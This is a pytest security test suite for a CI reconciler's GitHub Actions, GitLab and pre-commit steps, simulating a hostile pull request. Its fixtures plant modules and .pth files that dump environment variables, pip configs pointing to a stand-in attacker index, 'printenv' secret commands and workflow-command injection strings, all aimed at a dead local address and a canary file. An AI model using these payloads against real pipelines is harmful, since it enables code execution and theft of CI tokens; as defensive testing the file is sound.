"""A pull request of an attacker against the real steps of the pipelines: nothing leaks, nothing foreign runs."""

from __future__ import annotations

import json
import re
import shutil
import signal
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.cli.hub import BOT, GH_TOKEN, TOKEN, Hub, clean, shell, step
from tests.cli.lab import Lab
from tests.conftest import ROOT, Request, Server

MANIFEST = (ROOT / "examples" / "customer-io" / "customer-io.yaml").read_text(encoding="utf-8")
MODULES = ("json.py", "venv.py", "sitecustomize.py", "usercustomize.py", "yaml.py", "click.py", "subprocess.py",
           "conftest.py", "setup.py", "reconciler/__init__.py", "reconciler/__main__.py", "reconciler/ci/__init__.py",
           "pip/__init__.py", "pip/__main__.py", "pathlib.py", "hatchling/build.py")  # fmt: skip
"""Names that Python, pip or a test runner would import from the working directory."""


def planted(canary: Path, attacker: str) -> dict[str, str]:
    """Return the files of the pull request: each module leaves a trace in `canary` when it is executed."""
    trace = f"import os\nopen({str(canary)!r}, 'a').write(__name__ + ' ' + repr(dict(os.environ)) + chr(10))\n"
    return {
        **dict.fromkeys(MODULES, trace),
        "pip.conf": f"[global]\nindex-url = {attacker}/simple\n",
        ".config/pip/pip.conf": f"[global]\nindex-url = {attacker}/simple\n",
        "setup.cfg": f"[easy_install]\nindex_url = {attacker}\n[global]\nindex-url = {attacker}\n",
        "pyproject.toml": "[build-system]\nrequires = []\nbuild-backend = 'setup'\nbackend-path = ['.']\n",
        "requirements.lock": f"--index-url {attacker}/simple\nevil==1.0\n",
        ".env": f"AEP_PLATFORM_URL={attacker}\nAEP_IMS_URL={attacker}\nPIP_INDEX_URL={attacker}\n",
        "evil.pth": trace.replace("\n", ";"),
    }


@pytest.fixture
def hub(server: Server, tmp_path: Path) -> Hub:
    """A bare repository with an empty main branch, and a clone of it."""
    return Hub.make(tmp_path, server)


@pytest.fixture
def canary(tmp_path: Path) -> Path:
    """The file in which executed code of the checkout leaves a trace."""
    return tmp_path / "canary"


ATTACKER = "http://127.0.0.1:9"
"""Nothing listens there: a step that asked it would fail."""
PATHS = {"PYTHONPATH": ".:", "PYTHONSTARTUP": "json.py"}
"""Settings of a careless operator: the empty entry is the working directory."""


# -- 1, 2: files in the checkout ---------------------------------------------------------------------------------------
def test_the_planted_files_do_run_where_python_is_not_isolated(hub: Hub, canary: Path) -> None:
    """The control: without isolation the files below are executed."""
    runner = hub.runner(hub.push("evil", MANIFEST, **planted(canary, ATTACKER)))
    for args in (("-c", "import json"), ("-m", "venv", "x"), ("-m", "reconciler", "validate")):
        canary.unlink(missing_ok=True)
        subprocess.run([sys.executable, *args], cwd=runner / "repo", env=clean(), check=False, capture_output=True)
        assert canary.exists(), args


def test_no_file_of_the_checkout_runs_in_the_steps_of_the_action(hub: Hub, canary: Path) -> None:
    head = hub.push("evil", MANIFEST, **planted(canary, ATTACKER))
    done = hub.run("plan", head, 1, **PATHS)
    assert done.returncode == 0, done.stdout + done.stderr
    hub.merged(head, head)
    applied = hub.run("apply", head, **PATHS)
    assert "Apply: 4 created." in applied.stdout
    assert hub.run("drift", head, **PATHS).returncode == 0
    assert not canary.exists(), canary.read_text(encoding="utf-8")
    told = json.dumps(hub.data) + done.stdout + done.stderr + applied.stdout + applied.stderr
    assert TOKEN not in told
    assert GH_TOKEN not in told


def _action_folder(folder: Path) -> Path:
    """Return a stand-in for the action's own repository: its locks are empty, and it installs in a second."""
    (folder / "backend").mkdir(parents=True)
    for name in ("requirements.lock", "requirements-build.lock"):
        (folder / name).write_text("# nothing\n", encoding="utf-8")
    (folder / "pyproject.toml").write_text(
        "[build-system]\nrequires = []\nbuild-backend = 'backend'\nbackend-path = ['backend']\n"
        "[project]\nname = 'own'\nversion = '1'\n",
        encoding="utf-8",
    )
    (folder / "backend" / "backend.py").write_text(
        "import json, os, zipfile\n"  # json: a file of the checkout must not be found first
        "def build_wheel(folder, config_settings=None, metadata_directory=None):\n"
        "    with zipfile.ZipFile(os.path.join(folder, 'own-1-py3-none-any.whl'), 'w') as wheel:\n"
        "        wheel.writestr('own.py', '')\n"
        "        info = 'own-1.dist-info/'\n"
        "        wheel.writestr(info + 'METADATA', 'Metadata-Version: 2.1\\nName: own\\nVersion: 1\\n')\n"
        "        tag = 'Wheel-Version: 1.0\\nGenerator: x\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n'\n"
        "        wheel.writestr(info + 'WHEEL', tag)\n"
        "        wheel.writestr(info + 'RECORD', '')\n"
        "    return 'own-1-py3-none-any.whl'\n",
        encoding="utf-8",
    )
    return folder


@pytest.mark.parametrize("place", ["repo", "."], ids=["in the checkout", "where the action starts it"])
def test_no_file_of_the_checkout_runs_while_the_action_installs(hub: Hub, canary: Path, place: str) -> None:
    commit = hub.push("evil", MANIFEST, **planted(canary, ATTACKER))
    runner = hub.runner(commit)
    shutil.rmtree(runner / "reconciler")
    install = step("install")
    assert install["working-directory"] == "${{ runner.temp }}"
    own = _action_folder(hub.folder / "action")
    env = hub.environ(runner, commit) | PATHS | {"GITHUB_ACTION_PATH": str(own)} | install["env"]
    done = shell(install["run"], env, runner / place)
    assert done.returncode == 0, done.stdout + done.stderr
    assert not canary.exists(), canary.read_text(encoding="utf-8")
    assert ATTACKER not in done.stdout + done.stderr
    python = runner / "reconciler" / "bin" / "python"
    assert subprocess.run([python, "-I", "-c", "import own"], check=False).returncode == 0
    assert (runner / "output").read_text(encoding="utf-8") == f"python={python}\n"


def test_no_file_of_the_checkout_runs_in_the_gitlab_jobs(server: Server, tmp_path: Path, canary: Path) -> None:
    with Lab.serve(tmp_path, server) as lab:
        commit = lab.push("evil", MANIFEST, **planted(canary, ATTACKER))
        for job in ("validate", "plan", "comment"):
            done = lab.job(job, commit, 1)
            assert done.returncode == 0, (job, done.stdout, done.stderr)
        merged = lab.merge(commit, 1)
        for job in ("apply", "drift", "snapshot"):
            done = lab.job(job, merged)
            assert done.returncode == 0, (job, done.stdout, done.stderr)
        assert not canary.exists(), canary.read_text(encoding="utf-8")
        folder = lab.artifact("plan", commit)
        assert json.loads((folder / "counts.json").read_text()) == {"create": 4, "update": 0, "delete": 0}


def test_no_file_of_the_checkout_runs_in_the_pre_commit_hooks(hub: Hub, canary: Path) -> None:
    runner = hub.runner(hub.push("evil", MANIFEST, **planted(canary, ATTACKER)))
    env = clean() | {"PATH": f"{runner / 'reconciler' / 'bin'}:{clean()['PATH']}"}
    for hook in yaml.safe_load((ROOT / ".pre-commit-hooks.yaml").read_text(encoding="utf-8")):
        files = [] if hook.get("pass_filenames") is False else ["flow.yaml"]
        done = subprocess.run([*hook["entry"].split(), *files], cwd=runner / "repo", env=env, check=False)
        assert done.returncode == 0, hook["id"]
    assert not canary.exists()


def test_the_steps_refuse_a_python_that_is_not_isolated() -> None:
    done = subprocess.run(
        [sys.executable, "-m", "reconciler.ci", "github", "plan"], cwd=ROOT, check=False, capture_output=True, text=True
    )
    assert done.returncode == 1
    assert "python -I" in done.stderr


# -- 3: workflow commands ----------------------------------------------------------------------------------------------
INJECTIONS = (
    "x,title=PWN::y.yaml",
    "a\n::set-output name=x::y\n.yaml",
    "a\n##[add-path]evil.yaml",
    "%0A::debug::z.yaml",
)


def commands(log: str) -> list[str]:
    """Return the workflow commands that a runner would carry out, in order."""
    found: list[str] = []
    stopped = ""
    for line in re.split(r"[\r\n]+", log):
        text = line.lstrip()
        if stopped:
            stopped = "" if text == f"::{stopped}::" else stopped
        elif text.startswith("::stop-commands::"):
            stopped = text.removeprefix("::stop-commands::")
        elif re.match(r"::\w", text) or "##[" in line:
            found.append(text)
    return found


def test_names_and_messages_cannot_inject_workflow_commands(hub: Hub) -> None:
    broken = MANIFEST.replace("connector: customer-io", 'connector: "customer\\n::add-mask::io\\n##[add-path]x"')
    commit = hub.push("evil", broken, **dict.fromkeys(INJECTIONS, broken))
    done = hub.run("plan", commit, 1)
    assert done.returncode == 1
    run = commands(done.stdout)
    assert len(run) >= len(INJECTIONS)
    for command in run:
        kind, _, rest = command.removeprefix("::").partition(" ")
        properties, _, message = rest.partition("::")
        assert kind in ("error", "warning"), command
        assert [item.partition("=")[0] for item in properties.split(",") if item] in ([], ["file", "line", "col"])
        assert message
    assert commands(done.stderr) == []


# -- 4: forks ----------------------------------------------------------------------------------------------------------
@pytest.mark.parametrize("source", ["mallory/r", ""], ids=["fork", "deleted fork"])
def test_a_fork_is_validated_without_asking_the_platform(hub: Hub, server: Server, canary: Path, source: str) -> None:
    leak = f"printenv > {canary}"
    project = f"""apiVersion: reconciler/v1
kind: Project
metadata: {{name: evil}}
spec:
  platform: {{url: "{ATTACKER}", auth: {{imsUrl: "{ATTACKER}"}}}}
  secrets: [{{command: {{run: [sh, -c, '{leak}']}}}}]
"""
    head = hub.push("fork", MANIFEST, **{"reconciler.yaml": project})
    done = hub.run("plan", head, 1, source=source)
    assert done.returncode == 0, done.stdout + done.stderr
    assert server.requests == []
    assert not canary.exists()
    (comment,) = hub.data["comments"]
    assert "comes from a fork" in comment["body"]
    assert not list(hub.folder.glob("runner*/reconciler-out/plan.json"))


def test_a_plan_that_a_fork_left_is_not_applied(hub: Hub, server: Server) -> None:
    """The workflow file of a fork can upload any artifact under the name of ours."""
    head = hub.push("main", MANIFEST)
    assert hub.run("plan", head, 1).returncode == 0
    hub.merged(head, head, source="mallory/r")
    done = hub.run("apply", head)
    assert done.returncode == 1
    assert "It came from the fork mallory/r. The plan of" in done.stdout
    assert server.writes() == []


def test_pull_request_target_is_refused(hub: Hub, server: Server) -> None:
    head = hub.push("evil", MANIFEST)
    for source in ("o/r", "mallory/r"):
        done = hub.run("plan", head, 1, source=source, GITHUB_EVENT_NAME="pull_request_target")
        assert done.returncode == 1
        assert "plan on pull_request" in done.stdout
    assert server.requests == []


# -- 5: the comment ----------------------------------------------------------------------------------------------------
def test_a_comment_of_somebody_else_with_our_mark_is_left_alone(hub: Hub) -> None:
    """Its author could edit the plan after it was written there."""
    squat = {"id": 1, "body": "<!-- reconciler plan default -->\nmine", "user": {"login": "mallory"}}
    hub.know(comments=[squat])
    head = hub.push("evil", MANIFEST)
    for _ in range(2):
        assert hub.run("plan", head, 1).returncode == 0
    first, second = hub.data["comments"]
    assert first == squat
    assert second["user"]["login"] == BOT
    assert "4 to create" in second["body"]


def test_messages_cannot_leave_the_code_block_of_a_comment(hub: Hub) -> None:
    name = "a\\r\\n@octocat\\r[x](https://evil.example)\\u2028# big"
    head = hub.push("evil", MANIFEST.replace("connector: customer-io", f'connector: "{name}"'))
    assert hub.run("plan", head, 1).returncode == 1
    (comment,) = hub.data["comments"]
    title, _, block = comment["body"].partition("before this is repaired.\n\n")
    assert title.startswith("<!-- reconciler plan default -->\n### The plan failed\n\nCommit `")
    assert "octocat" in block
    assert all(line.startswith("    ") for line in re.split(r"[\r\n]", block.rstrip("\n")))


# -- 6: a branch of the repository -------------------------------------------------------------------------------------
def test_a_secret_command_does_not_get_the_tokens_of_the_runner(hub: Hub, canary: Path) -> None:
    """The author of a branch chooses the secret commands of a plan; they get none of the runner's tokens."""
    project = f"""apiVersion: reconciler/v1
kind: Project
metadata: {{name: p}}
spec:
  state: {{backend: http, address: "{ATTACKER}", password: "${{secret.x}}"}}
  secrets: [{{command: {{run: [sh, -c, 'printenv > {canary}; echo value']}}}}]
"""
    head = hub.push("evil", MANIFEST, **{"reconciler.yaml": project})
    hub.run("plan", head, 1, STATE_BRANCH="", GITHUB_ENV="/x/env", ACTIONS_RUNTIME_TOKEN="runtime-canary")
    given = canary.read_text(encoding="utf-8")
    for word in (GH_TOKEN, "runtime-canary", "GITHUB_ENV", "GITHUB_OUTPUT"):
        assert word not in given


def test_an_unreachable_state_branch_is_not_an_empty_state(hub: Hub, server: Server) -> None:
    head = hub.push("feature", MANIFEST)
    done = hub.run("plan", head, 1, GITHUB_SERVER_URL=str(hub.folder / "gone"))
    assert done.returncode == 1
    assert "the branch reconciler-state cannot be asked for" in done.stdout
    assert server.requests == []


def test_the_state_branch_is_not_read_with_settings_of_the_checkout(hub: Hub, canary: Path) -> None:
    """Hooks and filters that a pull request brings along are not configured in the state's own repository."""
    hook = f"#!/bin/sh\necho ran >> {canary}\n"
    files = {".githooks/pre-push": hook, ".git-hooks/post-checkout": hook, ".gitattributes": "* filter=evil\n"}
    head = hub.push("feature", MANIFEST, **files)
    assert hub.run("plan", head, 1).returncode == 0
    hub.merged(head, head)
    assert hub.run("apply", head).returncode == 0
    assert not canary.exists()


def test_an_apply_that_is_cancelled_keeps_its_state(hub: Hub, server: Server) -> None:
    head = hub.push("feature", MANIFEST)
    assert hub.run("plan", head, 1).returncode == 0
    hub.merged(head, head)
    runner = hub.runner(head)
    env = hub.environ(runner, head) | {"COMMAND": "apply"}
    run = step("run")["run"]
    process = subprocess.Popen(
        ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", run], cwd=runner / "repo", env=env,
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip

    def cancel(request: Request) -> Any:
        if request.method == "POST" and request.path.endswith("/sourceConnections"):
            process.send_signal(signal.SIGTERM)
        return None

    server.after.append(cancel)
    out, err = process.communicate(timeout=120)
    assert process.returncode not in (0, -signal.SIGTERM), out + err
    state = json.loads(hub.git("show", "reconciler-state:default.json", at=hub.bare))
    made = [item for item in server.writes() if item.method == "POST"]
    assert 1 <= len(made) < 4
    assert len(state["resources"]) == len(made)
    server.after.clear()
    again = hub.run("apply", head)  # the rest needs an approval: its bodies hold the version of the new mapping set
    if again.returncode:
        again = hub.run("approve", head)
    assert again.returncode == 0, again.stdout
    assert len([item for item in server.writes() if item.method == "POST"]) == 4
